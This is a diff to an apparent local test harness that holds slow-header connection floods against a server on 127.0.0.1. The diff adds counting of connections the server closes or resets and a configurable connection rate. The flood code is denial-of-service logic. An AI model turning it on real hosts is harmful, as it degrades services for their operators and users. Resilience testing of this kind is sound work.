@@ -77,6 +77,7 @@ FLOODS = {
 class AttackStats:
     connections: int = 0
     connect_errors: int = 0
+    closed: int = 0  # connections the victim closed (or reset) before the flood ended
     bytes_sent: int = 0
     live: int = 0
     peak_live: int = 0
@@ -143,11 +144,12 @@ def get_json(url: str, timeout: float = 3.0) -> Any:
 
 # -- the floods ----------------------------------------------------------------------------------
 async def flood(kind: str, port: int, concurrency: int, seconds: float,
-                stats: AttackStats) -> None:
-    """Hold up to `concurrency` connections of `kind` to 127.0.0.1:`port` for `seconds`."""
+                stats: AttackStats, rate: float = RATE) -> None:
+    """Hold up to `concurrency` connections of `kind` to 127.0.0.1:`port` for `seconds`,
+    opening at most `rate` a second."""
     loop = asyncio.get_running_loop()
     end = loop.time() + seconds
-    interval = 1 / RATE
+    interval = 1 / rate
 
     async def one() -> None:
         writer = None
@@ -162,6 +164,7 @@ async def flood(kind: str, port: int, concurrency: int, seconds: float,
                 while loop.time() < end:  # one more header byte a second, never the end
                     try:
                         if not await asyncio.wait_for(reader.read(4096), timeout=1):
+                            stats.closed += 1
                             break
                     except asyncio.TimeoutError:
                         writer.write(b"X")
@@ -170,8 +173,14 @@ async def flood(kind: str, port: int, concurrency: int, seconds: float,
                 remaining = max(0.0, end - loop.time())
                 try:  # wait for the victim to close it (or the flood to end)
                     await asyncio.wait_for(reader.read(), timeout=remaining)
+                    stats.closed += 1
                 except asyncio.TimeoutError:
                     pass
+        except ConnectionResetError:  # once connected, a reset is the victim closing it
+            if writer is None:
+                stats.connect_errors += 1
+            else:
+                stats.closed += 1
         except (OSError, asyncio.TimeoutError):
             stats.connect_errors += 1
         finally:
